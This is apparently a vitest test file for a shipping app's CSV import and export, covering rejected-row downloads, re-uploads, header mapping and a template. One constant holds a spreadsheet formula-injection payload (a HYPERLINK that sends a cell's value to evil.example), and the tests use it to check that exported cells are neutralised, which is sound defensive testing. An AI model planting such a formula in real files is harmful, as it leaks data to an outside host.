import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from '@/lib/csv/write';
import { sampleGetRatesRequest, samplePackage } from '@/lib/shipping/sample-package';
import { CSV_FIELDS } from './csv-fields';
import { csvTemplate } from './csv-template';
import { parseShipmentFile } from './parse-file';
import { rejectedRowsCsv } from './rejected-rows-csv';
import { csvFile, utf8 } from './sample-files';
import type { ParseOutcome } from './types';

function rows(outcome: ParseOutcome) {
  if (!outcome.ok) throw new Error(`expected rows, got ${outcome.code}: ${outcome.message}`);
  return outcome;
}

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1)';

describe('rejectedRowsCsv', () => {
  const upload = csvFile([
    { package_client_reference_id: 'A' },
    { package_client_reference_id: 'B', insured_value_currency: 'gbp' },
    { package_client_reference_id: 'C', ship_to_name: FORMULA, item_quantity: '0' },
    { package_client_reference_id: 'D' },
  ]);
  const first = rows(parseShipmentFile(utf8(upload)));
  const download = rejectedRowsCsv(first.csvHeaders ?? [], first.rejected);
  const table = Papa.parse<string[]>(download, { header: false, skipEmptyLines: true }).data;

  it('holds the original cells of each rejected row plus an error column naming field and place', () => {
    expect(table[0]).toEqual([...CSV_FIELDS.map((f) => f.name), 'error']);
    expect(table.slice(1).map((row) => [row[0], row.at(-1)])).toEqual([
      ['B', 'line 3, column insured_value_currency: must be a 3-letter ISO 4217 currency code in capitals, e.g. GBP (got "gbp")'],
      ['C', 'line 4, column item_quantity: must be at least 1 (got 0)'],
    ]);
  });

  it('neutralises formula cells on the way out', () => {
    expect(table[2]?.[3]).toBe(`'${FORMULA}`);
    expect(table.flat().some((cell) => /^[=+\-@\t\r\0]/.test(cell))).toBe(false);
  });

  it('uploads again as it is: the error column is ignored and the same rows are rejected', () => {
    const again = rows(parseShipmentFile(utf8(download)));
    expect(again.packages).toEqual([]);
    expect(again.csvHeaders).toEqual(first.csvHeaders);
    expect(again.rejected.map((r) => r.errors.map((e) => e.message))).toEqual([
      ['line 2, column insured_value_currency: must be a 3-letter ISO 4217 currency code in capitals, e.g. GBP (got "gbp")'],
      ['line 3, column item_quantity: must be at least 1 (got 0)'],
    ]);
  });

  it('once fixed in a spreadsheet, the same file uploads cleanly, formula text intact', () => {
    const [header = [], ...body] = table;
    const column = (name: string) => header.indexOf(name);
    for (const row of body) {
      row[column('insured_value_currency')] = 'GBP';
      row[column('item_quantity')] = '1';
      row[column('error')] = '';
    }
    const fixed = rows(parseShipmentFile(utf8(toCsv([header, ...body]))));
    expect(fixed.rejected).toEqual([]);
    expect(fixed.packages.map((p) => [p.packageClientReferenceId, p.shipTo?.name])).toEqual([
      ['B', 'Jane Doe'],
      ['C', FORMULA],
    ]);
  });

  it("keeps the shipper's own headers, so the remembered mapping still applies", () => {
    const theirs = csvFile([{ insured_value: '1.001' }]).replace('package_client_reference_id', 'Order Ref');
    const mapping = { 'Order Ref': 'package_client_reference_id' } as const;
    const out = rows(parseShipmentFile(utf8(theirs), { csvMapping: mapping }));
    const back = rejectedRowsCsv(out.csvHeaders ?? [], out.rejected);
    expect(back.startsWith('Order Ref,channel_type,')).toBe(true);
    expect(rows(parseShipmentFile(utf8(back), { csvMapping: mapping })).rejected).toHaveLength(1);
  });

  it('JSON rows (no cells) keep only the error, which names the place', () => {
    const out = rows(parseShipmentFile(utf8(JSON.stringify(sampleGetRatesRequest([{ ...samplePackage(), weight: null }])))));
    const csv = rejectedRowsCsv(['package_client_reference_id'], out.rejected);
    expect(csv).toBe('package_client_reference_id,error\r\n,request 1 › packages[0].weight: must be an object (got null)\r\n');
  });
});

describe('csvTemplate', () => {
  it('is the canonical header plus the sample package, and it uploads as one valid package', () => {
    const template = csvTemplate();
    expect(template.split('\r\n')[0]).toBe(CSV_FIELDS.map((f) => f.name).join(','));
    const out = rows(parseShipmentFile(utf8(template)));
    expect(out.rejected).toEqual([]);
    expect(out.packages).toMatchObject([
      {
        packageClientReferenceId: '20231003140431gkuelozg2ys',
        insuredValue: { value: 115.01, unit: 'GBP', minor: 11501 },
        shipTo: { countryCode: 'GB', phoneNumber: '+447123456789' },
        prepaid: true,
      },
    ]);
  });

  it('lists every field with a description; the required ones include the model’s required package fields', () => {
    for (const field of CSV_FIELDS) expect(field.description.length).toBeGreaterThan(10);
    expect(CSV_FIELDS.filter((f) => f.required).map((f) => f.name)).toEqual(
      expect.arrayContaining([
        'package_client_reference_id',
        'insured_value',
        'insured_value_currency',
        'weight_value',
        'length',
        'item_quantity',
      ]),
    );
  });
});
